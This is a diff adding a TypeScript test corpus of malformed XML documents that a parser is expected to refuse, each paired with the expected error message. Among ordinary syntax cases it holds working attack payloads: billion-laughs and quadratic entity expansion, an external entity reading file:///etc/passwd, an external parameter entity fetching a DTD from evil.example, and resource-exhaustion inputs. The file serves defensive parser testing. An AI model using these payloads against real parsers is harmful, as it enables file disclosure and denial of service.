@@ -1,0 +1,167 @@
+/** Documents that must be refused, one per violation and named after it. `reason` is part of the answer. */
+
+export interface HostileCase {
+  readonly name: string;
+  readonly bytes: Uint8Array;
+  readonly reason: RegExp;
+}
+
+const laughs = Array.from(
+  { length: 9 },
+  (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level};`.repeat(10)}">`,
+).join('');
+const manyAttributes = Array.from({ length: 100_000 }, (_, index) => `a${index}=""`).join(' ');
+const manyNamespaces = Array.from({ length: 100_000 }, (_, index) => `xmlns:n${index}="urn:n"`).join(' ');
+
+const texts: readonly (readonly [name: string, xml: string, reason: RegExp])[] = [
+  ['empty', '', /root element/],
+  ['white space only', ' \n ', /root element/],
+  ['text only', 'hello', /outside of root/],
+  ['JSON', '{"a": 1}', /outside of root/],
+  ['comment only', '<!-- nothing here -->', /root element/],
+  ['two roots', '<a/><b/>', /one root/],
+  ['text before the root', 'x<a/>', /outside of root/],
+  ['text after the root', '<a/>x', /outside of root/],
+  ['character reference after the root', '<a/>&#65;', /outside of root/],
+  ['CDATA section after the root', '<a/><![CDATA[x]]>', /outside of root/],
+  ['second byte-order mark', '\u{FEFF}\u{FEFF}<a/>', /outside of root/],
+  ['unclosed element', '<a><b></b>', /unclosed tag: a/],
+  ['unclosed start tag', '<a b="c"', /unexpected end/],
+  ['unclosed comment', '<a/><!-- x', /unexpected end/],
+  ['unclosed CDATA section', '<a><![CDATA[x]]</a>', /unclosed tag/],
+  ['crossed elements', '<a><b></a></b>', /unexpected close tag/],
+  ['end tag without start tag', '</a>', /unmatched closing tag/],
+  ['end tag in another case', '<a></A>', /unexpected close tag/],
+  ['attribute without value', '<a b></a>', /attribute without value/],
+  ['attribute without quotes', '<a b=c/>', /unquoted attribute value/],
+  ['attributes without white space between', '<a b="1"c="2"/>', /no whitespace/],
+  ['less-than sign in an attribute', '<a b="<"/>', /disallowed character/],
+  ['same attribute twice', '<a b="1" b="2"/>', /duplicate attribute/],
+  [
+    'same attribute twice under two prefixes',
+    '<a xmlns:p="urn:x" xmlns:q="urn:x" p:b="1" q:b="2"/>',
+    /duplicate attribute/,
+  ],
+  ['unbound prefix of an element', '<p:a/>', /unbound namespace prefix/],
+  ['unbound prefix of an attribute', '<a p:b="1"/>', /unbound namespace prefix/],
+  [
+    'prefix used after its element has ended',
+    '<a><b xmlns:p="urn:x"/><p:c/></a>',
+    /unbound namespace prefix/,
+  ],
+  ['prefix bound to nothing', '<a xmlns:p=""/>', /undefine prefix/],
+  ['xml prefix bound elsewhere', '<a xmlns:xml="urn:x"/>', /xml prefix/],
+  ['xmlns prefix declared', '<a xmlns:xmlns="http://www.w3.org/2000/xmlns/"/>', /may not assign/],
+  [
+    'xml namespace under another prefix',
+    '<a xmlns:p="http://www.w3.org/XML/1998/namespace"/>',
+    /xml namespace/,
+  ],
+  ['element with the xmlns prefix', '<xmlns:a/>', /xmlns/],
+  ['name with two colons', '<a:b:c xmlns:a="urn:x"/>', /malformed name/],
+  ['name that ends in a colon', '<a: xmlns:a="urn:x"/>', /malformed name/],
+  ['local name that starts with a digit', '<p:1 xmlns:p="urn:x"/>', /malformed name/],
+  ['prefix that starts with a digit', '<a xmlns:1="urn:x"/>', /malformed name/],
+  ['name that starts with a digit', '<1a/>', /tag name/],
+  ['NUL character', '<a>\0</a>', /disallowed character/],
+  ['control character in text', '<a>\u{1}</a>', /disallowed character/],
+  ['control character in an attribute', '<a b="\u{B}"/>', /disallowed character/],
+  ['control character in a comment', '<a><!-- \u{8} --></a>', /disallowed character/],
+  ['U+FFFE', '<a>\u{FFFE}</a>', /disallowed character/],
+  ['U+FFFF', '<a>\u{FFFF}</a>', /disallowed character/],
+  ['reference to a control character', '<a>&#1;</a>', /character entity/],
+  [
+    'reference to a control character that XML 1.1 allows',
+    '<?xml version="1.1"?><a>&#1;</a>',
+    /character entity/,
+  ],
+  ['reference to a surrogate', '<a>&#xD800;</a>', /character entity/],
+  ['reference beyond Unicode', '<a>&#x110000;</a>', /character entity/],
+  ['reference with a capital X', '<a>&#X41;</a>', /character entity/],
+  ['undefined entity', '<a>&nbsp;</a>', /undefined entity/],
+  ['undefined entity in an attribute', '<a b="&nbsp;"/>', /undefined entity/],
+  ['ampersand alone', '<a>fish & chips;</a>', /entity name/],
+  ['CDATA end in text', '<a>]]></a>', /\]\]>/],
+  ['two hyphens in a comment', '<a><!-- a -- b --></a>', /malformed comment/],
+  ['processing instruction without target', '<a><? x?></a>', /without a target/],
+  ['processing instruction with a prefix', '<a><?p:x y?></a>', /processing instruction/],
+  ['XML declaration after white space', ' <?xml version="1.0"?><a/>', /start of the document/],
+  ['XML declaration inside', '<a><?xml version="1.0"?></a>', /start of the document/],
+  ['XML declaration without version', '<?xml encoding="utf-8"?><a/>', /version/],
+  ['XML declaration of version 2', '<?xml version="2.0"?><a/>', /version/],
+  [
+    'encoding ISO-8859-1 declared',
+    '<?xml version="1.0" encoding="ISO-8859-1"?><a/>',
+    /encoding ISO-8859-1; only UTF-8/,
+  ],
+  ['encoding UTF-16 declared', '<?xml version="1.0" encoding="utf-16"?><a/>', /encoding utf-16; only UTF-8/],
+  ['billion laughs', `<!DOCTYPE a [<!ENTITY lol0 "lol">${laughs}]><a>&lol9;</a>`, /declares entities/],
+  [
+    'quadratic blow-up',
+    `<!DOCTYPE a [<!ENTITY x "${'x'.repeat(50_000)}">]><a>${'&x;'.repeat(50_000)}</a>`,
+    /declares entities/,
+  ],
+  [
+    'external entity',
+    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
+    /declares entities/,
+  ],
+  [
+    'external parameter entity',
+    '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>',
+    /declares entities/,
+  ],
+  ['entity declared and not used', '<!DOCTYPE a [<!ELEMENT a ANY><!ENTITY x "y">]><a/>', /declares entities/],
+  [
+    'entity declared behind a misleading comment',
+    `<!DOCTYPE a [<!-- ' --><!ENTITY x "y"><!-- ' -->]><a/>`,
+    /declares entities/,
+  ],
+  [
+    'entity declared behind a misleading instruction',
+    `<!DOCTYPE a [<?p ' ?><!ENTITY x "y"><?p ' ?>]><a/>`,
+    /declares entities/,
+  ],
+  ['DOCTYPE without name', '<!DOCTYPE><a/>', /names no root element/],
+  ['DOCTYPE in lower case', '<!doctype a><a/>', /incorrect syntax/],
+  ['DOCTYPE after the root', '<a/><!DOCTYPE a>', /inappropriately located/],
+  ['DOCTYPE inside the root', '<a><!DOCTYPE a></a>', /inappropriately located/],
+  ['two DOCTYPEs', '<!DOCTYPE a><!DOCTYPE a><a/>', /inappropriately located/],
+  ['DOCTYPE with a public identifier only', '<!DOCTYPE a PUBLIC "p"><a/>', /external identifier/],
+  ['DOCTYPE with a misspelt keyword', '<!DOCTYPE a SYSTEMS "u"><a/>', /external identifier/],
+  ['text in the internal subset', '<!DOCTYPE a [nonsense]><a/>', /internal subset/],
+  ['conditional section in the internal subset', '<!DOCTYPE a [<![INCLUDE[]]>]><a/>', /internal subset/],
+  ['unknown declaration in the internal subset', '<!DOCTYPE a [<!NONSENSE a>]><a/>', /internal subset/],
+  ['parameter entity inside a declaration', '<!DOCTYPE a [<!ELEMENT a %x;>]><a/>', /internal subset/],
+  ['XML declaration in the internal subset', '<!DOCTYPE a [<?xml version="1.0"?>]><a/>', /internal subset/],
+  ['text behind the internal subset', '<!DOCTYPE a [] x><a/>', /DOCTYPE is malformed/],
+  ['unclosed DOCTYPE', '<!DOCTYPE a [<!ELEMENT a ANY>', /root element/],
+  ['elements 101 deep', `${'<a>'.repeat(101)}${'</a>'.repeat(101)}`, /deeper than 100/],
+  ['elements 20,000 deep', `${'<a>'.repeat(20_000)}${'</a>'.repeat(20_000)}`, /deeper than 100/],
+  ['elements 20,000 deep and never closed', '<a>'.repeat(20_000), /deeper than 100/],
+  ['100,000 attributes', `<a ${manyAttributes}/>`, /more than 1000 attributes/],
+  ['100,000 attributes in a tag that never ends', `<a ${manyAttributes} <`, /more than 1000 attributes/],
+  ['100,000 namespace declarations', `<a ${manyNamespaces}/>`, /more than 1000 attributes/],
+  ['element name of 4 MB that never ends', `<${'a'.repeat(4_000_000)}`, /root element/],
+  ['comment of 4 MB that never ends', `<!--${' -'.repeat(2_000_000)}`, /root element/],
+  ['reference of 4 MB', `<a>&${'a'.repeat(4_000_000)};</a>`, /undefined entity/],
+  [
+    '4 MB of entity declarations',
+    `<!DOCTYPE a [${'<!ENTITY x "y">'.repeat(260_000)}]><a/>`,
+    /declares entities/,
+  ],
+];
+
+const octets: readonly (readonly [name: string, bytes: readonly number[], reason: RegExp])[] = [
+  ['octet that is not UTF-8', [0x3c, 0x61, 0x3e, 0xff, 0x3c, 0x2f, 0x61, 0x3e], /UTF-8/],
+  ['overlong form of a less-than sign', [0xc0, 0xbc, 0x61, 0x2f, 0x3e], /UTF-8/],
+  ['surrogate encoded in UTF-8', [0x3c, 0x61, 0x3e, 0xed, 0xa0, 0x80, 0x3c, 0x2f, 0x61, 0x3e], /UTF-8/],
+  ['sequence that is cut off', [0x3c, 0x61, 0x2f, 0x3e, 0xe2, 0x82], /UTF-8/],
+  ['UTF-16 with a byte-order mark', [0xff, 0xfe, 0x3c, 0, 0x61, 0, 0x2f, 0, 0x3e, 0], /UTF-8/],
+  ['UTF-16 without a byte-order mark', [0x3c, 0, 0x61, 0, 0x2f, 0, 0x3e, 0], /disallowed character/],
+];
+
+export const hostileCorpus: readonly HostileCase[] = [
+  ...texts.map(([name, xml, reason]) => ({ name, bytes: new TextEncoder().encode(xml), reason })),
+  ...octets.map(([name, bytes, reason]) => ({ name, bytes: Uint8Array.from(bytes), reason })),
+];
